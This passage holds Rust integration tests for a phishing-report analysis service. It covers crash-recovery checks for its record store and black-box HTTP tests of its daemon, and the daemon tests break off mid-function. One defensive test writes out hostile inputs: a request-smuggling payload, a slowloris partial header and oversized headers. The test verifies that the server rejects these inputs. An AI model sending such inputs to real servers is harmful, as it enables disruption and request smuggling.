//!   orphan blob (GC-able), never a frame whose evidence is missing,
//! * an incremental re-scan refills exactly the lost records and the
//!   final log is bit-identical to a never-crashed run.
//!
//! `CB_CHAOS_SEED` (default 1) picks the fault-injection seed,
//! `CB_CHAOS_SHARDS` pins a single shard count (default: sweep 1 and 4)
//! and `CB_CHAOS_BATCH` pins a single group-commit batch size (default:
//! sweep 1 and 16); CI runs the sweep across seeds, shard counts and
//! batch sizes. Under group commit an append is **acked** only once a
//! barrier covers it (`Store::pending_appends` drops to zero), and the
//! sweep's lost-record assertion tracks exactly that watermark.

use cb_artifacts::fingerprint::fnv128;
use cb_phishgen::MessageClass;
use cb_sim::SimTime;
use cb_store::{encode_record, FaultVfs, IoFaultKind, IoFaultPlan, Store, StoreOptions, Vfs};
use crawlerbox::{ArtifactKind, CapturedArtifact, ScanRecord};
use std::path::PathBuf;
use std::sync::Arc;

fn scratch(tag: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("cb-chaos-{tag}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    dir
}

/// Deterministic sweep options: single-threaded recovery (so the mutating
/// op sequence is identical across probe and crash runs — one worker also
/// inlines the batch-append fan-out), a small segment target (so the
/// sweep crosses segment seals and rolls), and `fsync_each_append` with
/// the given group-commit batch size (so the ack watermark is exercised:
/// at `batch` = 1 every `Ok` append is an acknowledged record, at larger
/// batches only a completed barrier acks the window).
fn sweep_opts(shards: usize, batch: usize) -> StoreOptions {
    StoreOptions {
        segment_target_bytes: 256,
        fsync_each_append: true,
        commit_batch: batch,
        shards,
        recovery_workers: 1,
        ..StoreOptions::default()
    }
}

/// Drive `records` into `store` through the group-commit ingest path in
/// `batch`-sized chunks, stopping at the first I/O error, then run one
/// final explicit barrier for any partial window. Returns the content
/// hashes that were **acked** — covered by a completed durable barrier —
/// when the run ended. A crash may lose anything beyond these, never one
/// of them.
fn ingest_acked(store: &mut Store, records: &[ScanRecord], batch: usize) -> Vec<u128> {
    let mut acked = Vec::new();
    let mut pending = Vec::new();
    'run: for chunk in records.chunks(batch.max(1)) {
        let mut encoded = Vec::with_capacity(chunk.len());
        for r in chunk {
            encoded.push(encode_record(&mut r.clone()).expect("canonical encoding"));
        }
        match store.append_batch(encoded) {
            Ok(()) => {
                pending.extend(chunk.iter().map(|r| r.content_hash));
                if store.pending_appends() == 0 {
                    acked.append(&mut pending);
                }
            }
            Err(_) => break 'run,
        }
    }
    if !pending.is_empty() && store.sync().is_ok() {
        acked.append(&mut pending);
    }
    acked
}

/// A small corpus of synthetic records: artifacts on most (blob path),
/// none on one (bare-frame path), and one shared artifact (dedup path).
fn chaos_records() -> Vec<ScanRecord> {
    let shared = b"shared screenshot bitmap".to_vec();
    (0..6usize)
        .map(|id| {
            let body = format!("chaos message body {id}").into_bytes();
            let mut artifacts = Vec::new();
            if id != 2 {
                artifacts.push(CapturedArtifact {
                    kind: ArtifactKind::Message,
                    hash: fnv128(&body),
                    bytes: body.clone(),
                });
            }
            if id == 1 || id == 5 {
                artifacts.push(CapturedArtifact {
                    kind: ArtifactKind::Screenshot,
                    hash: fnv128(&shared),
                    bytes: shared.clone(),
                });
            }
            ScanRecord {
                message_id: id,
                content_hash: fnv128(&body),
                delivered_at: SimTime::EPOCH,
                auth_pass: id % 2 == 0,
                extracted: Vec::new(),
                visits: Vec::new(),
                body_bytes: body.len(),
                blank_line_run: 0,
                class: MessageClass::NoResource,
                error: None,
                artifacts,
            }
        })
        .collect()
}

fn env_u64(name: &str, default: u64) -> u64 {
    std::env::var(name).ok().and_then(|v| v.parse().ok()).unwrap_or(default)
}

/// The tentpole acceptance test: crash at every mutating I/O operation of
/// a full store run; recovery must lose zero acked records, never
/// quarantine, and a delta re-scan must rebuild the exact byte-identical
/// log of a never-crashed run.
#[test]
fn crash_point_sweep_loses_no_acked_records() {
    let seed = env_u64("CB_CHAOS_SEED", 1);
    let shard_counts: Vec<usize> = match std::env::var("CB_CHAOS_SHARDS") {
        Ok(v) => vec![v.parse().expect("CB_CHAOS_SHARDS must be a shard count")],
        Err(_) => vec![1, 4],
    };
    let batches: Vec<usize> = match std::env::var("CB_CHAOS_BATCH") {
        Ok(v) => vec![v.parse().expect("CB_CHAOS_BATCH must be a batch size")],
        Err(_) => vec![1, 16],
    };
    let records = chaos_records();

    for &shards in &shard_counts {
        for &batch in &batches {
            let tag = format!("{shards}-{batch}");
            // Golden run: a never-crashed store on the real file system.
            let golden_dir = scratch(&format!("golden-{tag}"));
            let mut golden_store =
                Store::open_with(&golden_dir, sweep_opts(shards, batch)).unwrap();
            let golden_acked = ingest_acked(&mut golden_store, &records, batch);
            assert_eq!(golden_acked.len(), records.len(), "uncrashed run acks everything");
            let golden = golden_store.read_payloads().unwrap();
            let golden_blobs = golden_store.blobs().hashes();
            drop(golden_store);
            std::fs::remove_dir_all(&golden_dir).unwrap();

            // Probe run: count the mutating ops of the full run.
            let probe_dir = scratch(&format!("probe-{tag}"));
            let probe = FaultVfs::new(IoFaultPlan::counting(seed));
            let probe_vfs: Arc<dyn Vfs> = Arc::new(Arc::clone(&probe));
            let mut store =
                Store::open_with_vfs(&probe_dir, sweep_opts(shards, batch), probe_vfs).unwrap();
            ingest_acked(&mut store, &records, batch);
            drop(store);
            std::fs::remove_dir_all(&probe_dir).unwrap();
            let ops = probe.ops();
            assert!(ops > 20, "probe must see a realistic op count, got {ops}");

            let mut orphan_crash_points = 0usize;
            for crash_at in 1..=ops {
                let dir = scratch(&format!("sweep-{tag}-{crash_at}"));
                let fault = FaultVfs::new(IoFaultPlan::crash_at(seed, crash_at));
                let vfs: Arc<dyn Vfs> = Arc::new(Arc::clone(&fault));
                let mut acked: Vec<u128> = Vec::new();
                match Store::open_with_vfs(&dir, sweep_opts(shards, batch), vfs) {
                    Err(_) => {} // crashed while creating the store
                    Ok(mut store) => acked = ingest_acked(&mut store, &records, batch),
                }
                assert!(
                    fault.crashed(),
                    "{tag}: crash point {crash_at}/{ops} was never reached"
                );
                fault.apply_crash().unwrap();

                // Power is back: recover on the real file system.
                let mut store = Store::open_with(&dir, sweep_opts(shards, batch)).unwrap();
                assert!(
                    store.recovery().quarantined.is_empty(),
                    "{tag} crash {crash_at}: crash artifacts must never quarantine: {:?}",
                    store.recovery().quarantined
                );
                for h in &acked {
                    assert!(
                        store.contains_hash(*h),
                        "{tag} crash {crash_at}: acked record {h:032x} lost \
                         ({} of {} acked, {} recovered)",
                        acked.len(),
                        records.len(),
                        store.len()
                    );
                }
                // Every surviving frame's evidence must resolve (a dangling
                // blob ref is the bug class the blob-before-frame ordering
                // exists to prevent); at worst the crash left orphan blobs.
                assert!(
                    store.verify().unwrap().is_clean(),
                    "{tag} crash {crash_at}: recovered store fails verify"
                );
                let orphans = store.gc_orphan_blobs().unwrap();
                if !orphans.is_empty() {
                    orphan_crash_points += 1;
                }

                // Delta re-scan: refill exactly the lost records.
                let known = store.known_hashes();
                let refilled = records.iter().filter(|r| !known.contains(&r.content_hash));
                for r in refilled {
                    store.append(r).unwrap();
                }
                store.sync().unwrap();
                assert_eq!(store.len(), records.len(), "{tag} crash {crash_at}");
                assert_eq!(
                    store.read_payloads().unwrap(),
                    golden,
                    "{tag} crash {crash_at}: refilled log is not bit-identical"
                );
                assert_eq!(
                    store.blobs().hashes(),
                    golden_blobs,
                    "{tag} crash {crash_at}: blob set diverged"
                );
                assert!(store.verify().unwrap().is_clean());
                assert_eq!(
                    store.gc_orphan_blobs().unwrap(),
                    Vec::<u128>::new(),
                    "{tag} crash {crash_at}: refill must re-reference every blob"
                );
                drop(store);
                std::fs::remove_dir_all(&dir).unwrap();
            }
            eprintln!(
                "chaos sweep shards={shards} batch={batch} seed={seed}: {ops} crash \
                 points, {orphan_crash_points} left orphan blobs (GC'd)"
            );
        }
    }
}

/// Group-commit ack semantics under crashes, pinned at batch boundaries:
/// with `commit_batch` = 3 every `Ok` batch append whose barrier
/// completed is an acked *batch*, and a crash anywhere in the run must
/// recover either the whole batch or (if unacked) any prefix of it —
/// acked batches are all-or-nothing, and the single-shard log recovers as
/// an exact prefix of the append order (frames are never reordered or
/// torn interior).
#[test]
fn group_commit_crash_points_ack_batches_all_or_nothing() {
    let seed = env_u64("CB_CHAOS_SEED", 1);
    let records = chaos_records();
    let batch = 3usize;
    let expected: Vec<Vec<u8>> = records
        .iter()
        .map(|r| serde_json::to_vec(r).unwrap())
        .collect();

    // Probe the op count of the full chunked run.
    let probe_dir = scratch("batchwin-probe");
    let probe = FaultVfs::new(IoFaultPlan::counting(seed));
    let probe_vfs: Arc<dyn Vfs> = Arc::new(Arc::clone(&probe));
    let mut store = Store::open_with_vfs(&probe_dir, sweep_opts(1, batch), probe_vfs).unwrap();
    assert_eq!(ingest_acked(&mut store, &records, batch).len(), records.len());
    drop(store);
    std::fs::remove_dir_all(&probe_dir).unwrap();
    let ops = probe.ops();

    let mut partial_batch_recoveries = 0usize;
    for crash_at in 1..=ops {
        let dir = scratch(&format!("batchwin-{crash_at}"));
        let fault = FaultVfs::new(IoFaultPlan::crash_at(seed, crash_at));
        let vfs: Arc<dyn Vfs> = Arc::new(Arc::clone(&fault));
        let mut acked: Vec<u128> = Vec::new();
        match Store::open_with_vfs(&dir, sweep_opts(1, batch), vfs) {
            Err(_) => {}
            Ok(mut store) => acked = ingest_acked(&mut store, &records, batch),
        }
        assert!(fault.crashed(), "crash point {crash_at}/{ops} was never reached");
        // The helper acks whole batches only: a partial window is acked
        // by the trailing sync, which this run never completed.
        assert_eq!(acked.len() % batch, 0, "crash {crash_at}: torn ack watermark");
        fault.apply_crash().unwrap();

        let mut store = Store::open_with(&dir, sweep_opts(1, batch)).unwrap();
        assert!(store.recovery().quarantined.is_empty(), "crash {crash_at}");
        assert!(store.verify().unwrap().is_clean(), "crash {crash_at}");
        let recovered = store.read_payloads().unwrap();
        // One shard ⇒ the recovered log is an exact prefix of the append
        // order: no record survives ahead of a lost one.
        assert!(
            recovered.len() <= expected.len()
                && recovered == expected[..recovered.len()],
            "crash {crash_at}: recovered log is not a prefix ({} records)",
            recovered.len()
        );
        // Every acked batch is fully present — the all-or-nothing ack.
        assert!(
            recovered.len() >= acked.len(),
            "crash {crash_at}: acked batch lost ({} acked, {} recovered)",
            acked.len(),
            recovered.len()
        );
        if recovered.len() % batch != 0 {
            partial_batch_recoveries += 1;
        }
        let _ = store.gc_orphan_blobs().unwrap();
        drop(store);
        std::fs::remove_dir_all(&dir).unwrap();
    }
    // The sweep must actually exercise the interesting window: crashes
    // that land mid-batch recover a partial (unacked) batch.
    assert!(
        partial_batch_recoveries > 0,
        "no crash point recovered a partial batch — the barrier window was not swept"
    );
}

/// The blob-write/frame-append crash window, pinned: crash exactly at the
/// segment fsync that follows the blob-directory fsync. The blob is
/// durable, the frame is not — recovery must either keep the whole pair
/// (the tail happened to survive) or drop the frame and leave an orphan
/// blob for GC. It must never surface a record whose blob is gone.
#[test]
fn crash_between_blob_write_and_frame_append_leaves_orphan_not_dangling() {
    let records = chaos_records();
    let record = &records[0];
    assert!(!record.artifacts.is_empty(), "the window needs an artifact");

    // Probe the op count of open + one acked append; the run's last three
    // ops are: blobs sync-dir, segment fsync, generation sync-dir.
    let probe_dir = scratch("window-probe");
    let probe = FaultVfs::new(IoFaultPlan::counting(0));
    let probe_vfs: Arc<dyn Vfs> = Arc::new(Arc::clone(&probe));
    let mut store = Store::open_with_vfs(&probe_dir, sweep_opts(1, 1), probe_vfs).unwrap();
    store.append(record).unwrap();
    drop(store);
    std::fs::remove_dir_all(&probe_dir).unwrap();
    let segment_fsync_op = probe.ops() - 1;

    // The surviving-tail length is seed-dependent; across a handful of
    // seeds the frame must get torn at least once, orphaning the blob.
    let mut saw_orphan = false;
    for seed in 0..16u64 {
        let dir = scratch(&format!("window-{seed}"));
        let fault = FaultVfs::new(IoFaultPlan::crash_at(seed, segment_fsync_op));
        let vfs: Arc<dyn Vfs> = Arc::new(Arc::clone(&fault));
        let mut store = Store::open_with_vfs(&dir, sweep_opts(1, 1), vfs).unwrap();
        store.append(record).unwrap_err();
        drop(store);
        fault.apply_crash().unwrap();

        let mut store = Store::open_with(&dir, sweep_opts(1, 1)).unwrap();
        assert!(store.recovery().quarantined.is_empty(), "seed {seed}");
        assert!(store.verify().unwrap().is_clean(), "seed {seed}: dangling evidence");
        if store.is_empty() {
            // Frame torn away; the blob write before it must remain as a
            // GC-able orphan (the blob directory was fsynced first).
            let removed = store.gc_orphan_blobs().unwrap();
            assert!(!removed.is_empty(), "seed {seed}: durable blob should be orphaned");
            assert!(store.blobs().is_empty());
            saw_orphan = true;
        } else {
            // The unsynced tail happened to survive whole: then the record
            // is intact and its evidence resolves.
            assert_eq!(store.len(), 1, "seed {seed}");
            assert!(store.contains_hash(record.content_hash), "seed {seed}");
        }
        drop(store);
        std::fs::remove_dir_all(&dir).unwrap();
        if saw_orphan {
            break;
        }
    }
    assert!(saw_orphan, "no seed in 0..16 tore the frame — the window is not exercised");
}

/// Transient faults (disk-full, fsync failure) surface as append errors
/// without corrupting the log: every acked record survives reopen, the
/// store never quarantines, and verify stays clean.
#[test]
fn transient_io_faults_fail_appends_without_corrupting_the_log() {
    let seed = env_u64("CB_CHAOS_SEED", 1);
    let records = chaos_records();
    let dir = scratch("transient");
    let plan = IoFaultPlan {
        seed,
        rate: 0.25,
        // Short writes are crash territory (they tear the log mid-frame and
        // demand a reopen); the recoverable transients are the ones a
        // caller may see and retry *a different record* after.
        kinds: vec![IoFaultKind::DiskFull, IoFaultKind::FsyncFail],
        crash_at: None,
    };
    let fault = FaultVfs::new(plan);
    let vfs: Arc<dyn Vfs> = Arc::new(Arc::clone(&fault));
    let mut acked = Vec::new();
    match Store::open_with_vfs(&dir, sweep_opts(2, 1), vfs) {
        Err(_) => {} // creation itself may fault; nothing was acked
        Ok(mut store) => {
            for r in &records {
                if store.append(r).is_ok() {
                    acked.push(r.content_hash);
                }
            }
        }
    }

    let mut store = Store::open_with(&dir, sweep_opts(2, 1)).unwrap();
    assert!(store.recovery().quarantined.is_empty(), "transient faults must not quarantine");
    for h in &acked {
        assert!(store.contains_hash(*h), "acked record {h:032x} lost to a transient fault");
    }
    assert!(store.verify().unwrap().is_clean());
    std::fs::remove_dir_all(&dir).unwrap();
}
