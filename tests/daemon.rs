//! Black-box protocol tests for `crawlboxd`: every test spawns the real
//! binary, talks to it over a loopback TCP socket with a hand-rolled
//! HTTP/1.1 client, and asserts on wire bytes, exit codes and on-disk
//! state — never on internals.
//!
//! The centrepiece is the ack-vs-durable contract: a task reported
//! `durable` by `GET /tasks/{id}` must survive SIGKILL + restart at every
//! commit-batch × shard combination, and a clean `POST /shutdown` must
//! flush every pending commit batch before the process exits 0.

use cb_phishgen::{Corpus, CorpusSpec, ReportedMessage};
use std::collections::BTreeSet;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::TcpStream;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::{Duration, Instant};

fn scratch(tag: &str) -> PathBuf {
    let dir = std::env::temp_dir().join(format!("cb-daemon-it-{tag}-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    dir
}

fn corpus_subset(seed: u64, n: usize) -> (Corpus, Vec<ReportedMessage>) {
    let corpus = Corpus::generate(&CorpusSpec::paper().with_scale(0.01), seed);
    let subset = corpus.messages.iter().take(n).cloned().collect();
    (corpus, subset)
}

/// A spawned daemon child plus the address it printed. Killed on drop so
/// a failing test never leaks a process.
struct Daemon {
    child: Child,
    addr: String,
}

impl Daemon {
    fn spawn(store: &Path, extra: &[&str]) -> Daemon {
        let mut child = Command::new(env!("CARGO_BIN_EXE_crawlboxd"))
            .arg("--store")
            .arg(store)
            .args(["--port", "0"])
            .args(extra)
            .stdout(Stdio::piped())
            .stderr(Stdio::inherit())
            .spawn()
            .expect("spawn crawlboxd");
        let stdout = child.stdout.take().expect("piped stdout");
        let mut reader = BufReader::new(stdout);
        let mut line = String::new();
        let addr = loop {
            line.clear();
            if reader.read_line(&mut line).expect("read daemon stdout") == 0 {
                panic!("daemon exited before printing its listening line");
            }
            if let Some(rest) = line.trim().strip_prefix("crawlboxd listening on ") {
                break rest.to_string();
            }
        };
        // Keep draining stdout so the child never blocks on a full pipe.
        std::thread::spawn(move || {
            let mut rest = String::new();
            while matches!(reader.read_line(&mut rest), Ok(n) if n > 0) {
                rest.clear();
            }
        });
        Daemon { child, addr }
    }

    fn request(
        &self,
        method: &str,
        path: &str,
        content_type: Option<&str>,
        body: &[u8],
    ) -> (u16, String) {
        let mut stream = TcpStream::connect(&self.addr).expect("connect");
        stream.set_read_timeout(Some(Duration::from_secs(120))).unwrap();
        let mut head = format!(
            "{method} {path} HTTP/1.1\r\nHost: t\r\nContent-Length: {}\r\nConnection: close\r\n",
            body.len()
        );
        if let Some(ct) = content_type {
            head.push_str(&format!("Content-Type: {ct}\r\n"));
        }
        head.push_str("\r\n");
        stream.write_all(head.as_bytes()).expect("write head");
        stream.write_all(body).expect("write body");
        let mut raw = Vec::new();
        stream.read_to_end(&mut raw).expect("read response");
        let text = String::from_utf8_lossy(&raw).to_string();
        let status: u16 = text
            .strip_prefix("HTTP/1.1 ")
            .and_then(|r| r.get(..3))
            .and_then(|s| s.parse().ok())
            .unwrap_or_else(|| panic!("bad response: {text:?}"));
        let body = text.split_once("\r\n\r\n").map(|(_, b)| b.to_string()).unwrap_or_default();
        (status, body)
    }

    fn get(&self, path: &str) -> (u16, String) {
        self.request("GET", path, None, b"")
    }

    fn post_raw(&self, path: &str, body: &str) -> (u16, String) {
        self.request("POST", path, Some("message/rfc822"), body.as_bytes())
    }

    fn post_json(&self, path: &str, body: &str) -> (u16, String) {
        self.request("POST", path, Some("application/json"), body.as_bytes())
    }

    /// Await a task state: `durable` panics if the task fails first.
    fn await_durable(&self, id: u64) -> serde_json::Value {
        let deadline = Instant::now() + Duration::from_secs(180);
        loop {
            let (status, body) = self.get(&format!("/tasks/{id}"));
            assert_eq!(status, 200, "task {id} lookup: {body}");
            let task: serde_json::Value = serde_json::from_str(&body).expect("task json");
            match task["state"].as_str().unwrap_or("") {
                "durable" => return task,
                "failed" => panic!("task {id} failed: {}", task["error"]),
                _ if Instant::now() > deadline => panic!("task {id} never durable: {task}"),
                _ => std::thread::sleep(Duration::from_millis(20)),
            }
        }
    }

    /// Clean shutdown: `POST /shutdown` must drain, flush and exit 0.
    fn shutdown_and_wait(mut self) {
        let (status, _) = self.post_json("/shutdown", "");
        assert_eq!(status, 202);
        let code = self.child.wait().expect("wait").code();
        assert_eq!(code, Some(0), "clean shutdown must exit 0");
    }

    fn kill(mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

impl Drop for Daemon {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Write raw bytes on a fresh connection and read until `want` responses
/// arrived (or the peer closed / 5s passed). Returns everything read.
fn raw_exchange(addr: &str, wire: &[u8], want: usize) -> String {
    let mut stream = TcpStream::connect(addr).expect("connect");
    stream.set_read_timeout(Some(Duration::from_millis(300))).unwrap();
    stream.write_all(wire).expect("write");
    let mut out = Vec::new();
    let deadline = Instant::now() + Duration::from_secs(5);
    let mut buf = [0u8; 4096];
    while Instant::now() < deadline {
        match stream.read(&mut buf) {
            Ok(0) => break,
            Ok(n) => {
                out.extend_from_slice(&buf[..n]);
                let text = String::from_utf8_lossy(&out);
                if text.matches("HTTP/1.1 ").count() >= want && text.ends_with("}") {
                    break;
                }
            }
            Err(e)
                if e.kind() == std::io::ErrorKind::WouldBlock
                    || e.kind() == std::io::ErrorKind::TimedOut =>
            {
                if String::from_utf8_lossy(&out).matches("HTTP/1.1 ").count() >= want {
                    break;
                }
            }
            Err(_) => break,
        }
    }
    String::from_utf8_lossy(&out).to_string()
}

fn ingested_tasks(body: &str) -> Vec<serde_json::Value> {
    let v: serde_json::Value = serde_json::from_str(body).expect("ingest json");
    v["tasks"].as_array().expect("tasks array").clone()
}

#[test]
fn health_metrics_and_route_errors() {
    let dir = scratch("basics");
    let d = Daemon::spawn(&dir, &["--shards", "2"]);

    let (status, body) = d.get("/health");
    assert_eq!(status, 200);
    let health: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(health["status"], "ok");
    assert_eq!(health["shards"], 2);
    assert_eq!(health["partitions"].as_array().unwrap().len(), 2);

    let (status, text) = d.get("/metrics");
    assert_eq!(status, 200);
    assert!(text.contains("# TYPE cb_daemon_http_requests counter"), "{text}");
    assert!(text.contains("cb_store_append_records{partition=\"0\"} 0"), "{text}");
    assert!(text.contains("cb_store_append_records{partition=\"1\"} 0"), "{text}");

    // Canonical mode exists and excludes advisory instruments.
    let (status, canonical) = d.get("/metrics?mode=canonical");
    assert_eq!(status, 200);
    assert!(!canonical.contains("cb_daemon_http_requests"), "{canonical}");
    assert!(canonical.contains("cb_daemon_ingest_messages"), "{canonical}");
    let (status, _) = d.get("/metrics?mode=wat");
    assert_eq!(status, 400);

    assert_eq!(d.get("/nope").0, 404);
    assert_eq!(d.request("DELETE", "/health", None, b"").0, 405);
    assert_eq!(d.request("PUT", "/tasks/1", None, b"").0, 405);
    assert_eq!(d.get("/tasks/xyz").0, 400);
    assert_eq!(d.get("/tasks/999999").0, 404);
    assert_eq!(d.get("/records/zz").0, 400);
    assert_eq!(d.post_raw("/ingest", "").0, 400);
    assert_eq!(d.post_json("/ingest", "{]").0, 400);
    assert_eq!(d.post_json("/ingest", r#"{"messages": []}"#).0, 400);
    assert_eq!(d.post_json("/ingest", r#"{"messages": [42]}"#).0, 400);

    d.shutdown_and_wait();
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn raw_ingest_reaches_durable_and_dedups_resubmission() {
    let (_corpus, subset) = corpus_subset(2024, 1);
    let dir = scratch("raw-ingest");
    let d = Daemon::spawn(&dir, &["--shards", "1"]);

    let (status, body) = d.post_raw("/ingest", &subset[0].raw);
    assert_eq!(status, 202, "{body}");
    let tasks = ingested_tasks(&body);
    assert_eq!(tasks.len(), 1);
    let id = tasks[0]["id"].as_u64().unwrap();
    let hash = tasks[0]["content_hash"].as_str().unwrap().to_string();

    let task = d.await_durable(id);
    assert_eq!(task["content_hash"].as_str().unwrap(), hash);

    let (status, body) = d.get(&format!("/records/{hash}"));
    assert_eq!(status, 200);
    let record: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(record["present"], true, "{record}");

    // Same bytes again: recognized as already durable, no rescan.
    let (status, body) = d.post_raw("/ingest", &subset[0].raw);
    assert_eq!(status, 202);
    assert_eq!(ingested_tasks(&body)[0]["state"], "durable");

    let (_, body) = d.get("/health");
    let health: serde_json::Value = serde_json::from_str(&body).unwrap();
    assert_eq!(health["partitions"][0]["appended"].as_u64().unwrap(), 1, "{health}");
    assert!(health["partitions"][0]["acked"].as_u64().unwrap() >= 1, "{health}");

    d.shutdown_and_wait();
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn json_batch_ingest_clusters_campaigns() {
    let (corpus, _) = corpus_subset(2024, 0);
    // Pick one phishgen campaign with at least two messages so the
    // clustering has something to link.
    let mut per_campaign: std::collections::BTreeMap<usize, Vec<&ReportedMessage>> =
        std::collections::BTreeMap::new();
    for m in &corpus.messages {
        if let Some(c) = m.truth.campaign {
            per_campaign.entry(c).or_default().push(m);
        }
    }
    let batch: Vec<&ReportedMessage> = match per_campaign.values().find(|v| v.len() >= 2) {
        Some(linked) => linked.iter().take(4).copied().collect(),
        // Tiny corpus with no multi-message campaign: the clustering
        // invariants below hold for singletons too.
        None => corpus.messages.iter().take(4).collect(),
    };

    let dir = scratch("campaigns");
    let d = Daemon::spawn(&dir, &["--shards", "2", "--commit-batch", "4"]);
    let payload = serde_json::json!({
        "messages": batch.iter().map(|m| m.raw.clone()).collect::<Vec<String>>(),
    });
    let (status, body) = d.post_json("/ingest", &payload.to_string());
    assert_eq!(status, 202, "{body}");
    let tasks = ingested_tasks(&body);
    assert_eq!(tasks.len(), batch.len());
    for task in &tasks {
        d.await_durable(task["id"].as_u64().unwrap());
    }

    let (status, body) = d.get("/campaigns");
    assert_eq!(status, 200);
    let parsed: serde_json::Value = serde_json::from_str(&body).unwrap();
    let campaigns = parsed["campaigns"].as_array().unwrap();
    assert!(!campaigns.is_empty(), "{parsed}");
    let clustered: u64 = campaigns.iter().map(|c| c["messages"].as_u64().unwrap()).sum();
    assert_eq!(clustered as usize, batch.len(), "every record in exactly one campaign");

    d.shutdown_and_wait();
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn concurrent_bursts_survive_clean_shutdown() {
    let (_corpus, subset) = corpus_subset(2024, 24);
    let dir = scratch("burst-shutdown");
    let shards = 4;
    let d = Daemon::spawn(&dir, &["--shards", "4", "--commit-batch", "8"]);

    // Three clients blast bursts concurrently over fresh connections.
    let accepted: BTreeSet<String> = std::thread::scope(|scope| {
        let d = &d;
        let mut handles = Vec::new();
        for chunk in subset.chunks(8) {
            handles.push(scope.spawn(move || {
                let mut hashes = Vec::new();
                for m in chunk {
                    let (status, body) = d.post_raw("/ingest", &m.raw);
                    assert_eq!(status, 202, "{body}");
                    for task in ingested_tasks(&body) {
                        assert_ne!(task["state"], "failed", "{task}");
                        hashes.push(task["content_hash"].as_str().unwrap().to_string());
                    }
                }
                hashes
            }));
        }
        handles.into_iter().flat_map(|h| h.join().unwrap()).collect()
    });
    assert_eq!(accepted.len(), 24, "distinct content hashes");

    // Shut down while scans are still in flight: the daemon must drain
    // the queues, flush the pending commit batches and only then exit.
    d.shutdown_and_wait();

    let mut on_disk = 0usize;
    for w in 0..shards {
        let store = cb_store::Store::open(&dir.join(format!("part-{w:02}"))).unwrap();
        assert!(store.quarantined().is_empty());
        on_disk += store.len();
        for hash in &accepted {
            let h = u128::from_str_radix(hash, 16).unwrap();
            if crawlerbox::tasks::route_shard(h, shards) == w {
                assert!(store.contains_hash(h), "accepted {hash} missing after clean shutdown");
            }
        }
    }
    assert_eq!(on_disk, 24);
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn keepalive_pipelining_and_torn_requests() {
    let dir = scratch("pipeline");
    let d = Daemon::spawn(&dir, &["--shards", "1"]);

    // Two pipelined requests, one write, one connection: two responses.
    let wire = b"GET /health HTTP/1.1\r\nHost: t\r\n\r\nGET /health HTTP/1.1\r\nHost: t\r\n\r\n";
    let text = raw_exchange(&d.addr, wire, 2);
    assert_eq!(text.matches("HTTP/1.1 200 OK").count(), 2, "{text}");
    assert!(text.contains("Connection: keep-alive"), "{text}");

    // Explicit close is honored.
    let text = raw_exchange(&d.addr, b"GET /health HTTP/1.1\r\nConnection: close\r\n\r\n", 1);
    assert!(text.contains("Connection: close"), "{text}");

    // A torn request (half a head, then FIN) is dropped silently and
    // takes nothing down.
    {
        let mut stream = TcpStream::connect(&d.addr).unwrap();
        stream.write_all(b"POST /ingest HTTP/1.1\r\nContent-Le").unwrap();
    }
    assert_eq!(d.get("/health").0, 200, "daemon survives torn requests");

    d.shutdown_and_wait();
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn protocol_abuse_maps_to_4xx_never_down() {
    let dir = scratch("abuse");
    let d = Daemon::spawn(
        &dir,
        &["--shards", "1", "--max-body", "4096", "--read-timeout-ms", "300"],
    );

    // Oversized request-line → 414.
    let long = format!("GET /{} HTTP/1.1\r\n\r\n", "a".repeat(9000));
    assert!(raw_exchange(&d.addr, long.as_bytes(), 1).contains("414"), "long URI");

    // Oversized header block → 431.
    let mut heads = String::from("GET /health HTTP/1.1\r\n");
    for i in 0..700 {
        heads.push_str(&format!("X-Pad-{i}: {}\r\n", "v".repeat(48)));
    }
    heads.push_str("\r\n");
    assert!(raw_exchange(&d.addr, heads.as_bytes(), 1).contains("431"), "huge heads");

    // Body over the configured cap → 413, before any body is read.
    let big = b"POST /ingest HTTP/1.1\r\nContent-Length: 8000\r\n\r\n";
    assert!(raw_exchange(&d.addr, big, 1).contains("413"), "oversized body");

    // Smuggling-shaped framing → 400.
    let smuggle =
        b"POST /ingest HTTP/1.1\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n";
    assert!(raw_exchange(&d.addr, smuggle, 1).contains("400"), "CL+TE");

    // Unsupported version → 505; non-HTTP garbage → 400.
    assert!(raw_exchange(&d.addr, b"GET /health HTTP/2.0\r\n\r\n", 1).contains("505"));
    assert!(raw_exchange(&d.addr, b"\x16\x03\x01\x02\x00garbage\r\n\r\n", 1).contains("400"));

    // Slowloris: a never-finished head times out with 408.
    let mut stream = TcpStream::connect(&d.addr).unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(5))).unwrap();
    stream.write_all(b"GET /health HTTP/1.1\r\nHost: t").unwrap();
    let mut out = Vec::new();
    let _ = stream.read_to_end(&mut out);
    assert!(String::from_utf8_lossy(&out).contains("408"), "slowloris: {out:?}");

    // After all of that the daemon still answers.
    assert_eq!(d.get("/health").0, 200);
    d.shutdown_and_wait();
    std::fs::remove_dir_all(&dir).unwrap();
}

/// The acceptance matrix: kill -9 mid-ingest at commit batch {1,16} ×
/// shards {1,4}; every task that was acked `durable` before the kill must
/// be present after recovery.
#[test]
fn kill_and_restart_preserves_durable_acks() {
    let (_corpus, subset) = corpus_subset(2024, 12);
    for (commit_batch, shards) in [(1usize, 1usize), (1, 4), (16, 1), (16, 4)] {
        let dir = scratch(&format!("kill-b{commit_batch}-s{shards}"));
        let flags =
            [String::from("--shards"), shards.to_string(), "--commit-batch".into(), commit_batch.to_string()];
        let flags: Vec<&str> = flags.iter().map(String::as_str).collect();
        let d = Daemon::spawn(&dir, &flags);

        let mut ids = Vec::new();
        for m in &subset {
            let (status, body) = d.post_raw("/ingest", &m.raw);
